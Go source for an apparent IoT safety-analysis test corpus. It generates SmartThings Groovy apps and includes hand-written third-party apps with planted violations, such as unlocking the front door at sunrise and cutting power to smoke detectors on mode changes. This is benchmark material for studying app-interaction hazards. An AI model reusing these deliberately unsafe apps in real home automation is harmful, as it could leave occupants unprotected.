	return header(p, "Lights the warning lamp when a device battery runs low.") + fmt.Sprintf(`
preferences {
    section("Devices") {
        input %q, "capability.switch", title: %q, required: true
        input %q, "capability.battery", title: %q, required: true
        input "thrshld", "number", title: "Low battery threshold", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "battery", batteryHandler)
}

def batteryHandler(evt) {
    def level = %s.currentValue("battery")
    if (level < thrshld) {
        %s.on()
        sendPush("Battery low")
    }
}
`, p.handleA, p.titleA, p.handleB, p.titleB, p.handleB, p.handleB, p.handleA)
}

func shadeSun(p tmplParams) string {
	return header(p, "Closes the shades when it gets bright.") + fmt.Sprintf(`
preferences {
    section("Devices") {
        input %q, "capability.windowShade", title: %q, required: true
        input %q, "capability.illuminanceMeasurement", title: %q, required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "illuminance", lightHandler)
}

def lightHandler(evt) {
    def lux = %s.currentValue("illuminance")
    if (lux > %d) {
        %s.close()
    } else {
        %s.open()
    }
}
`, p.handleA, p.titleA, p.handleB, p.titleB, p.handleB, p.handleB, p.num, p.handleA, p.handleA)
}

func tempAlert(p tmplParams) string {
	return header(p, "Strobes the alarm when the freezer warms past the threshold.") + fmt.Sprintf(`
preferences {
    section("Devices") {
        input %q, "capability.alarm", title: %q, required: true
        input %q, "capability.temperatureMeasurement", title: %q, required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "temperature", tempHandler)
}

def tempHandler(evt) {
    def temp = %s.currentValue("temperature")
    if (temp > %d) {
        %s.strobe()
    } else {
        %s.off()
    }
}
`, p.handleA, p.titleA, p.handleB, p.titleB, p.handleB, p.handleB, p.num, p.handleA, p.handleA)
}

func doorChime(p tmplParams) string {
	return header(p, "Chimes when the door opens, silent once it closes.") + fmt.Sprintf(`
preferences {
    section("Devices") {
        input %q, "capability.musicPlayer", title: %q, required: true
        input %q, "capability.contactSensor", title: %q, required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "contact.open", openHandler)
    subscribe(%s, "contact.closed", closedHandler)
}

def openHandler(evt) {
    %s.play()
}

def closedHandler(evt) {
    %s.stop()
}
`, p.handleA, p.titleA, p.handleB, p.titleB, p.handleB, p.handleB, p.handleA, p.handleA)
}

func irrigation(p tmplParams) string {
	return header(p, "Opens the irrigation valve every morning and closes it in the evening.") + fmt.Sprintf(`
preferences {
    section("Irrigation") {
        input %q, "capability.valve", title: %q, required: true
    }
}

def installed() { initialize() }
def updated() {
    unschedule()
    initialize()
}
def initialize() {
    schedule("0 0 %d * * ?", morningHandler)
    schedule("0 0 %d * * ?", eveningHandler)
}

def morningHandler() {
    log.debug "watering"
    %s.open()
}

def eveningHandler() {
    log.debug "done watering"
    %s.close()
}
`, p.handleA, p.titleA, p.num, p.num+12, p.handleA, p.handleA)
}

func washerDone(p tmplParams) string {
	return header(p, "Announces the laundry when the washer's power draw drops.") + fmt.Sprintf(`
preferences {
    section("Devices") {
        input %q, "capability.musicPlayer", title: %q, required: true
        input %q, "capability.powerMeter", title: %q, required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "power", powerHandler)
}

def powerHandler(evt) {
    def draw = %s.currentValue("power")
    if (draw < %d) {
        %s.play()
    }
}
`, p.handleA, p.titleA, p.handleB, p.titleB, p.handleB, p.handleB, p.num, p.handleA)
}

func lightDimmer(p tmplParams) string {
	return header(p, "Dims the hallway to the configured level on motion.") + fmt.Sprintf(`
preferences {
    section("Devices") {
        input %q, "capability.switchLevel", title: %q, required: true
        input %q, "capability.motionSensor", title: %q, required: true
        input "userLevel", "number", title: "Brightness", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "motion.active", motionHandler)
}

def motionHandler(evt) {
    %s.setLevel(userLevel)
}
`, p.handleA, p.titleA, p.handleB, p.titleB, p.handleB, p.handleA)
}

func bigMonitor(p tmplParams, withSprinkler bool) string {
	valveInput, valveOpen, valveClose := "", "", ""
	if withSprinkler {
		valveInput = `
    section("Sprinkler") {
        input "sprinkler_valve", "capability.valve", title: "Sprinkler valve", required: true
    }`
		valveOpen = `
        sprinkler_valve.open()`
		valveClose = `
        sprinkler_valve.close()`
	}
	return header(p, "Whole-home monitor: smoke, entry, and motion alerts with sprinkler control.") + fmt.Sprintf(`
preferences {
    section("Alarm") {
        input "home_alarm", "capability.alarm", title: "Home alarm", required: true
    }
    section("Sensors") {
        input "smoke_det", "capability.smokeDetector", title: "Smoke detector", required: true
        input "entry_contact", "capability.contactSensor", title: "Entry contact", required: true
        input "hall_motion", "capability.motionSensor", title: "Hall motion", required: true
    }%s
    section("Lights") {
        input "alert_light", "capability.switch", title: "Alert light", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(smoke_det, "smoke", smokeHandler)
    subscribe(entry_contact, "contact.open", entryHandler)
    subscribe(hall_motion, "motion.active", motionHandler)
}

def smokeHandler(evt) {
    if (evt.value == "detected") {
        home_alarm.siren()
        alert_light.on()%s
    }
    if (evt.value == "clear") {
        home_alarm.off()%s
    }
}

def entryHandler(evt) {
    log.debug "entry opened"
    alert_light.on()
}

def motionHandler(evt) {
    alert_light.on()
}
`, valveInput, valveOpen, valveClose)
}

// generated instantiates the template apps for the rest of the corpus.
func generated() []AppSpec {
	mk := func(id string, official bool, category string, src string, name string) AppSpec {
		// Every market app carries the standard notification plumbing.
		return AppSpec{ID: id, Name: name, Category: category, Official: official, Source: src + notifyBoiler}
	}
	p := func(name, cat, ha, ta, hb, tb string, n int) tmplParams {
		return tmplParams{name: name, category: cat, handleA: ha, titleA: ta, handleB: hb, titleB: tb, num: n}
	}

	var out []AppSpec
	add := func(id string, official bool, pp tmplParams, src string) {
		out = append(out, mk(id, official, pp.category, src, pp.name))
	}

	// Officials.
	o1 := p("Whole-Home-Monitor", "Safety & Security", "", "", "", "", 0)
	add("O1", true, o1, bigMonitor(o1, true))
	o2 := p("Smoke-Siren", "Safety & Security", "main_alarm", "Main alarm", "kitchen_smoke", "Kitchen smoke", 0)
	add("O2", true, o2, smokeSiren(o2))
	o5 := p("Basement-Leak-Guard", "Safety & Security", "main_valve", "Main valve", "basement_sensor", "Basement sensor", 0)
	add("O5", true, o5, leakValve(o5))
	o6 := p("Welcome-Home-Lights", "Convenience", "entry_light", "Entry light", "family", "Family presence", 0)
	add("O6", true, o6, presenceLights(o6))
	o10 := p("Hallway-Motion-Light", "Convenience", "hall_light", "Hall light", "hall_motion", "Hall motion", 0)
	add("O10", true, o10, motionLights(o10))
	o11 := p("Night-Lockup", "Safety & Security", "front_lock", "Front lock", "", "", 23)
	add("O11", true, o11, nightLock(o11))
	o13 := p("Presence-Mode-Sync", "Home Automation", "family_presence", "Family", "", "", 0)
	add("O13", true, o13, modeByPresence(o13))
	o15 := p("Load-Shedder", "Green Living", "heater_outlet", "Heater outlet", "house_meter", "House meter", 1500)
	add("O15", true, o15, energyGuard(o15))
	o17 := p("Bath-Fan-Automation", "Convenience", "bath_fan", "Bath fan", "bath_humidity", "Bath humidity", 65)
	add("O17", true, o17, humidityFan(o17))
	o18 := p("Garage-Greeter", "Convenience", "garage_door", "Garage door", "driver", "Driver presence", 0)
	add("O18", true, o18, garageArrival(o18))
	o19 := p("Sleepy-Lights", "Personal Care", "bedroom_light", "Bedroom light", "bed_sensor", "Bed sensor", 0)
	add("O19", true, o19, sleepLights(o19))
	o20 := p("CO-Guardian", "Safety & Security", "co_siren", "CO siren", "co_detector", "CO detector", 0)
	add("O20", true, o20, coAlarm(o20))
	o21 := p("Entry-Snapshot", "Safety & Security", "front_cam", "Front camera", "porch_motion", "Porch motion", 0)
	add("O21", true, o21, camContact(o21))
	o22 := p("Battery-Sentinel", "Convenience", "warn_lamp", "Warning lamp", "sensor_battery", "Sensor battery", 0)
	add("O22", true, o22, batteryWatch(o22))
	o23 := p("Sun-Shade", "Green Living", "living_shade", "Living room shade", "sun_sensor", "Sun sensor", 800)
	add("O23", true, o23, shadeSun(o23))
	o24 := p("Freezer-Watchdog", "Safety & Security", "kitchen_alarm", "Kitchen alarm", "freezer_temp", "Freezer temp", 20)
	add("O24", true, o24, tempAlert(o24))
	o25 := p("Front-Door-Chime", "Convenience", "chime_player", "Chime", "front_contact", "Front door", 0)
	add("O25", true, o25, doorChime(o25))
	o26 := p("Lawn-Irrigation", "Green Living", "lawn_valve", "Lawn valve", "", "", 6)
	add("O26", true, o26, irrigation(o26))
	o27 := p("Laundry-Announcer", "Convenience", "kitchen_speaker", "Kitchen speaker", "washer_meter", "Washer meter", 5)
	add("O27", true, o27, washerDone(o27))
	o28 := p("Hall-Dimmer", "Convenience", "hall_dimmer", "Hall dimmer", "entry_motion", "Entry motion", 0)
	add("O28", true, o28, lightDimmer(o28))
	o29 := p("Guest-Arrival-Lights", "Convenience", "porch_light", "Porch light", "guests", "Guest presence", 0)
	add("O29", true, o29, presenceLights(o29))
	o32 := p("Closet-Motion-Light", "Convenience", "closet_light", "Closet light", "closet_motion", "Closet motion", 0)
	add("O32", true, o32, motionLights(o32))
	o33 := p("Laundry-Leak-Guard", "Safety & Security", "laundry_valve", "Laundry valve", "laundry_sensor", "Laundry sensor", 0)
	add("O33", true, o33, leakValve(o33))
	o34 := p("Garage-Smoke-Siren", "Safety & Security", "garage_alarm", "Garage alarm", "garage_smoke", "Garage smoke", 0)
	add("O34", true, o34, smokeSiren(o34))
	o35 := p("Household-Mode-Sync", "Home Automation", "household", "Household presence", "", "", 0)
	add("O35", true, o35, modeByPresence(o35))

	// Third-party.
	tp10 := p("DIY-Home-Monitor", "Safety & Security", "", "", "", "", 0)
	add("TP10", false, tp10, bigMonitor(tp10, false))
	tp11 := p("Porch-Presence-Lights", "Convenience", "stoop_light", "Stoop light", "owner", "Owner presence", 0)
	add("TP11", false, tp11, presenceLights(tp11))
	tp13 := p("Stairs-Motion-Light", "Convenience", "stairs_light", "Stairs light", "stairs_motion", "Stairs motion", 0)
	add("TP13", false, tp13, motionLights(tp13))
	tp14 := p("Aquarium-Leak-Stop", "Safety & Security", "aq_valve", "Aquarium valve", "aq_sensor", "Aquarium sensor", 0)
	add("TP14", false, tp14, leakValve(tp14))
	tp15 := p("Space-Heater-Guard", "Green Living", "space_heater", "Space heater", "bedroom_meter", "Bedroom meter", 900)
	add("TP15", false, tp15, energyGuard(tp15))
	tp16 := p("Greenhouse-Fan", "Green Living", "gh_fan", "Greenhouse fan", "gh_humidity", "Greenhouse humidity", 80)
	add("TP16", false, tp16, humidityFan(tp16))
	tp17 := p("Nursery-Sleep-Lights", "Personal Care", "nursery_light", "Nursery light", "crib_sensor", "Crib sensor", 0)
	add("TP17", false, tp17, sleepLights(tp17))
	tp18 := p("Carport-Opener", "Convenience", "carport_door", "Carport door", "commuter", "Commuter presence", 0)
	add("TP18", false, tp18, garageArrival(tp18))
	tp20 := p("Shop-Door-Bell", "Convenience", "shop_speaker", "Shop speaker", "shop_contact", "Shop door", 0)
	add("TP20", false, tp20, doorChime(tp20))
	tp23 := p("Remote-Battery-Lamp", "Convenience", "status_lamp", "Status lamp", "remote_battery", "Remote battery", 0)
	add("TP23", false, tp23, batteryWatch(tp23))
	tp24 := p("Shed-Camera-Trap", "Safety & Security", "shed_cam", "Shed camera", "shed_motion", "Shed motion", 0)
	add("TP24", false, tp24, camContact(tp24))
	tp25 := p("Evening-Deadbolt", "Safety & Security", "back_lock", "Back lock", "", "", 22)
	add("TP25", false, tp25, nightLock(tp25))
	tp26 := p("Greenhouse-Drip", "Green Living", "drip_valve", "Drip valve", "", "", 5)
	add("TP26", false, tp26, irrigation(tp26))
	tp27 := p("Cabin-CO-Siren", "Safety & Security", "cabin_alarm", "Cabin alarm", "cabin_co", "Cabin CO", 0)
	add("TP27", false, tp27, coAlarm(tp27))
	tp28 := p("Dryer-Done-Jingle", "Convenience", "hall_speaker", "Hall speaker", "dryer_meter", "Dryer meter", 8)
	add("TP28", false, tp28, washerDone(tp28))
	tp29 := p("Pantry-Dimmer", "Convenience", "pantry_dimmer", "Pantry dimmer", "pantry_motion", "Pantry motion", 0)
	add("TP29", false, tp29, lightDimmer(tp29))
	tp30 := p("Sunroom-Shade", "Green Living", "sunroom_shade", "Sunroom shade", "sunroom_lux", "Sunroom lux", 1000)
	add("TP30", false, tp30, shadeSun(tp30))

	return out
}
