package market

// Hand-written corpus apps: the third-party apps with the Table 3
// individual violations (TP1–TP9) and the members of the Table 4
// groups (G.1–G.3). Officials among them are written to be
// individually clean — the violations only emerge in app groups.

var handwritten = []AppSpec{
	// ----------------------------------------------------------------- TP1
	{ID: "TP1", Name: "Away-Music-Greeter", Category: "Convenience", Source: `
definition(
    name: "Away-Music-Greeter",
    namespace: "tp",
    author: "Community",
    description: "Plays a welcome playlist; mistakenly starts playback when everyone has left.",
    category: "Convenience")

preferences {
    section("Media") {
        input "player", "capability.musicPlayer", title: "Speaker", required: true
    }
    section("Who") {
        input "everyone", "capability.presenceSensor", title: "Presence", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(everyone, "presence.not present", departedHandler)
}

def departedHandler(evt) {
    log.debug "presence: $evt.value"
    // Bug: starts the playlist on departure instead of stopping it.
    player.play()
    sendPush("Playback started")
}
`},
	// ----------------------------------------------------------------- TP2
	{ID: "TP2", Name: "Vacation-Light-Blinker", Category: "Safety & Security", Source: `
definition(
    name: "Vacation-Light-Blinker",
    namespace: "tp",
    author: "Community",
    description: "Turns lights on when nobody is present (simulated occupancy) and on app touch.",
    category: "Safety & Security")

preferences {
    section("Lights") {
        input "the_switch", "capability.switch", title: "Lights", required: true
    }
    section("Presence") {
        input "anyone", "capability.presenceSensor", title: "Who?", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(anyone, "presence.not present", awayHandler)
    subscribe(app, touchHandler)
}

def awayHandler(evt) {
    log.debug "away: $evt.value"
    the_switch.on()
}

def touchHandler(evt) {
    the_switch.on()
}
`},
	// ----------------------------------------------------------------- TP3
	{ID: "TP3", Name: "Mode-Motion-Switcher", Category: "Home Automation", Source: `
definition(
    name: "Mode-Motion-Switcher",
    namespace: "tp",
    author: "Community",
    description: "Changes the location mode on switch-off and motion-inactive, and lights on motion.",
    category: "Home Automation")

preferences {
    section("Devices") {
        input "the_switch", "capability.switch", title: "Switch", required: true
        input "the_motion", "capability.motionSensor", title: "Motion", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(the_motion, "motion.active", activeHandler)
    subscribe(the_motion, "motion.inactive", inactiveHandler)
    subscribe(the_switch, "switch.off", offHandler)
}

def activeHandler(evt) {
    the_switch.on()
}

def inactiveHandler(evt) {
    log.debug "no motion; assuming away"
    setLocationMode("away")
}

def offHandler(evt) {
    log.debug "switch off; assuming night"
    setLocationMode("night")
}
`},
	// ----------------------------------------------------------------- TP4
	{ID: "TP4", Name: "Dry-Spell-Alert", Category: "Safety & Security", Source: `
definition(
    name: "Dry-Spell-Alert",
    namespace: "tp",
    author: "Community",
    description: "Sounds the alarm when the flood sensor is dry (used to water Christmas trees).",
    category: "Safety & Security")

preferences {
    section("Sensors") {
        input "flood", "capability.waterSensor", title: "Flood sensor", required: true
    }
    section("Alarm") {
        input "siren", "capability.alarm", title: "Siren", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(flood, "water.dry", dryHandler)
}

def dryHandler(evt) {
    log.warn "no water detected: $evt.value"
    siren.siren()
    sendPush("Water the tree!")
}
`},
	// ----------------------------------------------------------------- TP5
	{ID: "TP5", Name: "Lullaby-Player", Category: "Personal Care", Source: `
definition(
    name: "Lullaby-Player",
    namespace: "tp",
    author: "Community",
    description: "Starts music when the sleep sensor detects sleep.",
    category: "Personal Care")

preferences {
    section("Media") {
        input "player", "capability.musicPlayer", title: "Speaker", required: true
    }
    section("Sleep") {
        input "sleeper", "capability.sleepSensor", title: "Sleep sensor", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(sleeper, "sleeping.sleeping", asleepHandler)
}

def asleepHandler(evt) {
    log.debug "asleep: $evt.value"
    player.play()
}
`},
	// ----------------------------------------------------------------- TP6
	{ID: "TP6", Name: "Occupancy-Simulator", Category: "Safety & Security", Source: `
definition(
    name: "Occupancy-Simulator",
    namespace: "tp",
    author: "Community",
    description: "Randomly toggles lights while nobody is home to simulate occupancy.",
    category: "Safety & Security")

preferences {
    section("Lights") {
        input "the_light", "capability.switch", title: "Lights", required: true
    }
    section("Presence") {
        input "anyone", "capability.presenceSensor", title: "Who?", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    unschedule()
    initialize()
}
def initialize() {
    subscribe(anyone, "presence.not present", awayHandler)
}

def awayHandler(evt) {
    runIn(600, toggleHandler)
}

def toggleHandler() {
    // Toggles the light off then on in one handler run.
    the_light.off()
    the_light.on()
    runIn(600, toggleHandler)
}
`},
	// ----------------------------------------------------------------- TP7
	{ID: "TP7", Name: "Tap-Blink", Category: "Convenience", Source: `
definition(
    name: "Tap-Blink",
    namespace: "tp",
    author: "Community",
    description: "Blinks the lights when the app icon is tapped.",
    category: "Convenience")

preferences {
    section("Lights") {
        input "the_light", "capability.switch", title: "Lights", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(app, touchHandler)
}

def touchHandler(evt) {
    log.debug "blinking"
    the_light.on()
    the_light.off()
}
`},
	// ----------------------------------------------------------------- TP8
	{ID: "TP8", Name: "Sun-Door-Scheduler", Category: "Home Automation", Source: `
definition(
    name: "Sun-Door-Scheduler",
    namespace: "tp",
    author: "Community",
    description: "Unlocks the door on sunrise and locks it on sunset.",
    category: "Home Automation")

preferences {
    section("Door") {
        input "front_door", "capability.lock", title: "Door", required: true
    }
}

def installed() { initialize() }
def updated() {
    unschedule()
    initialize()
}
def initialize() {
    schedule("0 0 6 * * ?", sunriseHandler)
    schedule("0 0 18 * * ?", sunsetHandler)
}

def sunriseHandler() {
    log.debug "sunrise"
    front_door.unlock()
}

def sunsetHandler() {
    log.debug "sunset"
    front_door.lock()
}
`},
	// ----------------------------------------------------------------- TP9
	{ID: "TP9", Name: "Double-Tap-Locker", Category: "Safety & Security", Source: `
definition(
    name: "Double-Tap-Locker",
    namespace: "tp",
    author: "Community",
    description: "Locks the door after it is closed — twice, to be sure.",
    category: "Safety & Security")

preferences {
    section("Door") {
        input "front_door", "capability.lock", title: "Lock", required: true
        input "door_contact", "capability.contactSensor", title: "Contact", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(door_contact, "contact.closed", closedHandler)
}

def closedHandler(evt) {
    log.debug "closed: $evt.value"
    front_door.lock()
    front_door.lock()
    sendPush("Door locked")
}
`},
	// ---------------------------------------------------------------- TP12
	{ID: "TP12", Name: "Contact-Light-Saver", Category: "Green Living", Source: `
definition(
    name: "Contact-Light-Saver",
    namespace: "tp",
    author: "Community",
    description: "Turns the light off when the door closes.",
    category: "Green Living")

preferences {
    section("Devices") {
        input "the_light", "capability.switch", title: "Light", required: true
        input "the_contact", "capability.contactSensor", title: "Contact", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(the_contact, "contact.closed", closedHandler)
}

def closedHandler(evt) {
    the_light.off()
}
`},
	// ---------------------------------------------------------------- TP19
	{ID: "TP19", Name: "Mode-Thermostat-Setter", Category: "Green Living", Source: `
definition(
    name: "Mode-Thermostat-Setter",
    namespace: "tp",
    author: "Community",
    description: "Applies the user's heating and cooling setpoints whenever the mode changes.",
    category: "Green Living")

preferences {
    section("Thermostat") {
        input "ther", "capability.thermostat", title: "Thermostat", required: true
        input "heatPoint", "number", title: "Heating setpoint", required: true
        input "coolPoint", "number", title: "Cooling setpoint", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
    log.debug "mode: $evt.value"
    ther.setHeatingSetpoint(heatPoint)
    ther.setCoolingSetpoint(coolPoint)
}
`},
	// ---------------------------------------------------------------- TP21
	{ID: "TP21", Name: "Mode-Outlet-Shutdown", Category: "Green Living", Source: `
definition(
    name: "Mode-Outlet-Shutdown",
    namespace: "tp",
    author: "Community",
    description: "Cuts power to a set of outlets (security system, smoke detector, heater) on any mode change.",
    category: "Green Living")

preferences {
    section("Outlets") {
        input "outlets", "capability.switch", title: "Outlets", required: true, multiple: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
    log.debug "mode: $evt.value — shutting outlets"
    outlets.off()
}
`},
	// ---------------------------------------------------------------- TP22
	{ID: "TP22", Name: "Mode-Comfort-Starter", Category: "Convenience", Source: `
definition(
    name: "Mode-Comfort-Starter",
    namespace: "tp",
    author: "Community",
    description: "Starts the AC fan and the sound system on any mode change.",
    category: "Convenience")

preferences {
    section("Comfort") {
        input "ac_fan", "capability.fanControl", title: "AC fan", required: true
        input "sound", "capability.musicPlayer", title: "Sound system", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
    log.debug "mode: $evt.value — comfort on"
    ac_fan.fanOn()
    sound.play()
}
`},
	// ------------------------------------------------------------------ O3
	{ID: "O3", Name: "Open-Door-Light", Category: "Convenience", Official: true, Source: `
definition(
    name: "Open-Door-Light",
    namespace: "official",
    author: "SmartThings",
    description: "Turns the hallway light on when the door opens.",
    category: "Convenience")

preferences {
    section("Devices") {
        input "hall_light", "capability.switch", title: "Light", required: true
        input "door_contact", "capability.contactSensor", title: "Door", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(door_contact, "contact.open", openHandler)
}

def openHandler(evt) {
    log.debug "door open"
    hall_light.on()
}
`},
	// ------------------------------------------------------------------ O4
	{ID: "O4", Name: "Door-Light-Inverter", Category: "Green Living", Official: true, Source: `
definition(
    name: "Door-Light-Inverter",
    namespace: "official",
    author: "SmartThings",
    description: "Saves energy: light off while the door stands open, back on once it closes.",
    category: "Green Living")

preferences {
    section("Devices") {
        input "porch_light", "capability.switch", title: "Light", required: true
        input "door_contact", "capability.contactSensor", title: "Door", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(door_contact, "contact.open", openHandler)
    subscribe(door_contact, "contact.closed", closedHandler)
}

def openHandler(evt) {
    porch_light.off()
}

def closedHandler(evt) {
    porch_light.on()
}
`},
	// ------------------------------------------------------------------ O7
	{ID: "O7", Name: "Goodnight-Mode", Category: "Home Automation", Official: true, Source: `
definition(
    name: "Goodnight-Mode",
    namespace: "official",
    author: "SmartThings",
    description: "Sets the away mode when the main switch is turned off or motion stops.",
    category: "Home Automation")

preferences {
    section("Signals") {
        input "main_switch", "capability.switch", title: "Main switch", required: true
        input "hall_motion", "capability.motionSensor", title: "Hall motion", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(main_switch, "switch.off", offHandler)
    subscribe(hall_motion, "motion.inactive", idleHandler)
}

def offHandler(evt) {
    setLocationMode("away")
}

def idleHandler(evt) {
    setLocationMode("away")
}
`},
	// ------------------------------------------------------------------ O8
	{ID: "O8", Name: "Closed-Door-Energy-Saver", Category: "Green Living", Official: true, Source: `
definition(
    name: "Closed-Door-Energy-Saver",
    namespace: "official",
    author: "SmartThings",
    description: "Turns the fan outlet off once the door is closed.",
    category: "Green Living")

preferences {
    section("Devices") {
        input "fan_outlet", "capability.switch", title: "Outlet", required: true
        input "door_contact", "capability.contactSensor", title: "Door", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(door_contact, "contact.closed", closedHandler)
}

def closedHandler(evt) {
    log.debug "door closed"
    fan_outlet.off()
}
`},
	// ------------------------------------------------------------------ O9
	{ID: "O9", Name: "Motion-Night-Light", Category: "Convenience", Official: true, Source: `
definition(
    name: "Motion-Night-Light",
    namespace: "official",
    author: "SmartThings",
    description: "Turns the night light on when motion is detected.",
    category: "Convenience")

preferences {
    section("Devices") {
        input "night_light", "capability.switch", title: "Night light", required: true
        input "the_motion", "capability.motionSensor", title: "Motion", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(the_motion, "motion.active", activeHandler)
}

def activeHandler(evt) {
    night_light.on()
}
`},
	// ----------------------------------------------------------------- O12
	{ID: "O12", Name: "Mode-Climate-Control", Category: "Green Living", Official: true, Source: `
definition(
    name: "Mode-Climate-Control",
    namespace: "official",
    author: "SmartThings",
    description: "Applies the configured heating setpoint on every mode change.",
    category: "Green Living")

preferences {
    section("Thermostat") {
        input "ther", "capability.thermostat", title: "Thermostat", required: true
        input "comfortTemp", "number", title: "Comfort setpoint", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
    log.debug "mode change: $evt.value"
    ther.setHeatingSetpoint(comfortTemp)
}
`},
	// ----------------------------------------------------------------- O14
	{ID: "O14", Name: "Open-Window-Heater-Guard", Category: "Green Living", Official: true, Source: `
definition(
    name: "Open-Window-Heater-Guard",
    namespace: "official",
    author: "SmartThings",
    description: "Turns the heater outlet off while a window is open.",
    category: "Green Living")

preferences {
    section("Devices") {
        input "heater_outlet", "capability.switch", title: "Heater outlet", required: true
        input "window_contact", "capability.contactSensor", title: "Window", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(window_contact, "contact.open", openHandler)
}

def openHandler(evt) {
    log.debug "window open — heater off"
    heater_outlet.off()
}
`},
	// ----------------------------------------------------------------- O16
	{ID: "O16", Name: "Walkway-Light", Category: "Safety & Security", Official: true, Source: `
definition(
    name: "Walkway-Light",
    namespace: "official",
    author: "SmartThings",
    description: "Brightens the walkway when motion is detected.",
    category: "Safety & Security")

preferences {
    section("Devices") {
        input "walk_light", "capability.switch", title: "Walkway light", required: true
        input "walk_motion", "capability.motionSensor", title: "Walkway motion", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(walk_motion, "motion.active", activeHandler)
}

def activeHandler(evt) {
    walk_light.on()
}
`},
	// ----------------------------------------------------------------- O30
	{ID: "O30", Name: "Mode-Power-Saver", Category: "Green Living", Official: true, Source: `
definition(
    name: "Mode-Power-Saver",
    namespace: "official",
    author: "SmartThings",
    description: "Cuts standby power on any mode change.",
    category: "Green Living")

preferences {
    section("Outlets") {
        input "standby_outlets", "capability.switch", title: "Outlets", required: true, multiple: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
    log.debug "mode: $evt.value — cutting standby power"
    standby_outlets.off()
}
`},
	// ----------------------------------------------------------------- O31
	{ID: "O31", Name: "Mode-Appliance-Starter", Category: "Convenience", Official: true, Source: `
definition(
    name: "Mode-Appliance-Starter",
    namespace: "official",
    author: "SmartThings",
    description: "Powers the TV, coffee machine and heater outlets on any mode change.",
    category: "Convenience")

preferences {
    section("Appliances") {
        input "appliances", "capability.switch", title: "Appliance outlets", required: true, multiple: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
    log.debug "mode: $evt.value — powering appliances"
    appliances.on()
}
`},
}
