package report

import (
	"github.com/soteria-analysis/soteria/internal/obs"
)

// Timing is the per-response timing envelope attached to a Record when
// the request asked for `timings`: the job's trace ID and its span
// tree.
//
// Timing is run-varying by nature, so it is NEVER part of the stored,
// content-addressed record bytes: FromAnalysis never sets it, the
// store persists records without it, and the serving tier attaches it
// to a shallow per-response copy only. Decode tolerates the field, so
// a served record round-trips through clients unchanged.
type Timing struct {
	TraceID string     `json:"trace_id"`
	Span    *TimedSpan `json:"span"`
}

// TimedSpan is the wire form of one obs.Span node.
type TimedSpan struct {
	Name string `json:"name"`
	// DurationUS is the span's duration in microseconds.
	DurationUS int64        `json:"duration_us"`
	Attrs      []TimedAttr  `json:"attrs,omitempty"`
	Children   []*TimedSpan `json:"children,omitempty"`
}

// TimedAttr is one span annotation.
type TimedAttr struct {
	Key   string `json:"key"`
	Value string `json:"value"`
}

// TimingFromSpan renders a span tree (plus its trace ID) into wire
// form. Nil-safe: a nil span yields a nil Timing.
func TimingFromSpan(traceID string, sp *obs.Span) *Timing {
	root := timedSpan(sp)
	if root == nil {
		return nil
	}
	return &Timing{TraceID: traceID, Span: root}
}

func timedSpan(sp *obs.Span) *TimedSpan {
	if sp == nil {
		return nil
	}
	out := &TimedSpan{
		Name:       sp.Name(),
		DurationUS: sp.Duration().Microseconds(),
	}
	for _, a := range sp.Attrs() {
		out.Attrs = append(out.Attrs, TimedAttr{Key: a.Key, Value: a.Val})
	}
	for _, c := range sp.Children() {
		out.Children = append(out.Children, timedSpan(c))
	}
	return out
}
